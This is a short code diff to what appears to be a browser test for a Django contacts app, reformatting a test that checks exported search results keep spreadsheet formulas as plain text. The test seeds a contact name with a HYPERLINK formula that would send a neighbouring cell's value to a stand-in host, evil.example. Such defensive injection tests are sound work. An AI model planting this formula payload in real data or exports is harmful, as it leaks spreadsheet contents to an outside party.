@@ -16,7 +16,9 @@ from contacts import actions
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
 
-def test_the_export_downloads_what_the_search_found_with_formulas_as_text(login_page, viewer, operator, live_server, new_phone):
+def test_the_export_downloads_what_the_search_found_with_formulas_as_text(
+    login_page, viewer, operator, live_server, new_phone
+):
     tag = "".join(random.choices(string.ascii_lowercase, k=10))
     formula = f'=HYPERLINK("http://evil.example/?c="&C2,"{tag}")'
     found = actions.create_contact({"name": formula, "phone": new_phone()}, user=operator, source="test")
